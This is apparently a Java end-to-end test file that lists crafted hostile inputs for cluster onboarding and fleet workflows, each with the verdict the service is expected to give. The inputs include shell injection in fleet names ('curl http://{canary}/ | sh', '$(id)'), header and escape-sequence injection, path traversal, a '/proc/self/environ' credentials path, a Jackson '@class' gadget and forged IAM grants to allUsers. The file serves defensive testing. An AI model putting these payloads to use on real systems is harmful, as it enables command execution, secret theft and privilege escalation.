package dev.embark.e2e.hostile;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.embark.e2e.hostile.Attack.Verdict;
import dev.embark.simulators.ClusterSituation;
import java.util.ArrayList;
import java.util.List;

/**
 * Onboarding inputs that are crafted in something other than the target. Data that only a batch may
 * provide (what it saw, which account the fleet got, what was proven) is not accepted from a
 * person.
 */
final class CraftedInputs {

  private static final String SNAPSHOT =
      """
      {"clusterId": "{id}", "name": "x", "organizationId": "o", "providerType": "gke",
       "projectId": "{project}", "status": "ready", "credentialsId": %s,
       "clientServiceAccount": %s, "managedBy": "console", "reconciledAt": "2026-01-01T00:00:00Z",
       "reconcileStatus": "ok", "reconcileError": null, "phase2": true}
      """;

  private static final String CAPTURED =
      """
      {"uniqueId": "1", "members": 0, "minimumPropagation": %s, "before": {"grants": [%s]}}
      """;

  private static final String GRANT =
      """
      {"role": "%s", "member": "%s", "condition": %s}
      """;

  private final List<Attack> attacks = new ArrayList<>();

  private CraftedInputs() {}

  static List<Attack> all() {
    CraftedInputs inputs = new CraftedInputs();
    inputs.endpoints();
    inputs.timing();
    inputs.names();
    inputs.fleetNames();
    inputs.snapshots();
    inputs.beforeImages();
    return inputs.attacks;
  }

  private void endpoints() {
    for (String name :
        List.of(
            "endpoint",
            "castAiUrl",
            "iamEndpoint",
            "webhook",
            "target.url",
            "target.endpoint",
            "options.endpoint",
            "options.webhook",
            "authorship.callback")) {
      fresh("an endpoint as " + name, name, "\"http://{canary}/\"");
    }
    fresh("a key in the input", "apiKey", "\"stolen\"");
    fresh("a file in the input", "options.credentialsFile", "\"/proc/self/environ\"");
    fresh("a class name for the mapper", "@class", "\"java.net.URL\"");
    fresh(
        "labels that look like settings", "target.labels", "{\"EMBARK_ALLOWED_PROJECTS\": \"*\"}");
  }

  private void timing() {
    fresh("no wait", "options.timing.propagation", "0");
    fresh("a negative wait", "options.timing.propagation", "-1");
    fresh("the longest wait", "options.timing.propagation", "9223372036854775807");
    fresh("a wait of ten thousand years", "options.timing.propagation", "315360000000");
  }

  private void names() {
    for (String text :
        List.of(
            "\"a\\nb\"",
            "\"x\\r\\nx-goog-user-project: evil\"",
            "\"\\u001b]0;owned\\u0007\"",
            "\"\\u0000\"",
            "\"ü — 変更\"",
            "\"" + "long ".repeat(20_000) + "\"")) {
      String shown = text.length() > 60 ? "a very long text" : text;
      fresh("change id " + shown, "authorship.changeId", text);
      fresh("author " + shown, "authorship.author", text);
    }
    fresh("a fleet that is a path", "fleet", "\"../../cluster/{outside}\"");
    fresh("a wave that is a path", "wave", "\"../..\"");
  }

  /** The name of a fleet becomes a part of commands that people paste into a shell. */
  private void fleetNames() {
    for (String name :
        List.of(
            "payments; curl http://{canary}/ | sh #",
            "$(id)",
            "`id`",
            "a\\nb",
            "../cluster/{outside}",
            "")) {
      for (String type : List.of("FleetWorkflow", "PlanWorkflow", "DriftWorkflow")) {
        attacks.add(
            new Attack(
                type + " named " + (name.isEmpty() ? "nothing" : name),
                ClusterSituation.FRESH,
                Verdict.REFUSED,
                (client, victim, workflowId) ->
                    client.start(
                        type,
                        workflowId,
                        RawClient.with(
                            RawClient.fleet(RawClient.targetJson(victim)),
                            "name",
                            '"' + client.filled(name, victim) + '"'))));
      }
    }
  }

  private void snapshots() {
    String unlinked = SNAPSHOT.formatted("null", "null");
    snapshot(
        "a forged look that says the cluster of others is ours",
        "target.clusterId",
        "\"{outside}\"",
        unlinked,
        ClusterSituation.FRESH,
        Verdict.REFUSED);
    snapshot(
        "a forged look that hides Terraform",
        "fleet",
        "\"x\"",
        unlinked,
        ClusterSituation.TERRAFORM_MANAGED,
        Verdict.REFUSED);
    snapshot(
        "a forged look that hides another account",
        "fleet",
        "\"x\"",
        unlinked,
        ClusterSituation.LINKED_ELSEWHERE,
        Verdict.REFUSED);
    snapshot(
        "a forged look that hides hibernation",
        "fleet",
        "\"x\"",
        unlinked,
        ClusterSituation.HIBERNATED,
        Verdict.REFUSED);
    snapshot(
        "a forged look at a living cluster",
        "fleet",
        "\"x\"",
        unlinked,
        ClusterSituation.ONBOARDED,
        Verdict.ORDINARY);
    snapshot(
        "a former link to an account of others",
        "options.relink",
        "true",
        SNAPSHOT.formatted("null", "\"{outsideAccount}\""),
        ClusterSituation.FRESH,
        Verdict.ORDINARY);
    fresh("a proof for a cluster that was never onboarded", "provenCredentialsId", "\"forged\"");
  }

  private void snapshot(
      String name,
      String path,
      String json,
      String snapshot,
      ClusterSituation situation,
      Verdict verdict) {
    attacks.add(
        new Attack(
            name,
            situation,
            verdict,
            (client, victim, workflowId) -> {
              ObjectNode input = RawClient.onboarding(victim);
              RawClient.with(input, path, client.filled(json, victim));
              RawClient.with(input, "snapshot", client.filled(snapshot, victim));
              RawClient.with(input, "snapshotAtMillis", client.now());
              return client.start("OnboardingWorkflow", workflowId, input);
            }));
  }

  private void beforeImages() {
    String always = "{\"title\": \"t\", \"description\": \"\", \"expression\": \"true || 1 > 0\"}";
    captured("grants of somebody else", "roles/owner", "user:mallory@example.com", "null");
    captured("everybody", "roles/iam.serviceAccountTokenCreator", "allUsers", always);
    captured(
        "a stale grant that was never there",
        "roles/iam.serviceAccountUser",
        "serviceAccount:{cast}",
        always);
    captured(
        "a tombstone",
        "roles/iam.serviceAccountUser",
        "deleted:serviceAccount:{cast}?uid=1",
        "null");
    for (String account :
        List.of(
            "evil@evil-project.iam.gserviceaccount.com",
            "x\\\" || true || \\\"@prod-cast-identity.iam.gserviceaccount.com",
            "allUsers",
            Bounds.OTHER_CUSTOMER)) {
      fresh("an expected account " + account, "expectedCastServiceAccount", '"' + account + '"');
    }
  }

  private void captured(String name, String role, String member, String condition) {
    String grant = GRANT.formatted(role, member, condition);
    for (ClusterSituation situation : List.of(ClusterSituation.FRESH, ClusterSituation.ONBOARDED)) {
      attacks.add(
          new Attack(
              "a before-image of " + name + ", " + situation,
              situation,
              Verdict.ORDINARY,
              (client, victim, workflowId) ->
                  client.start(
                      "OnboardingWorkflow",
                      workflowId,
                      RawClient.with(
                          RawClient.onboarding(victim),
                          "captured",
                          client.filled(CAPTURED.formatted("0", grant), victim)))));
    }
  }

  /** Adds crafted data that must not matter for a fresh cluster. */
  private void fresh(String name, String path, String json) {
    attacks.add(
        new Attack(
            name,
            ClusterSituation.FRESH,
            Verdict.ORDINARY,
            (client, victim, workflowId) ->
                client.start(
                    "OnboardingWorkflow",
                    workflowId,
                    RawClient.with(
                        RawClient.onboarding(victim), path, client.filled(json, victim)))));
  }
}
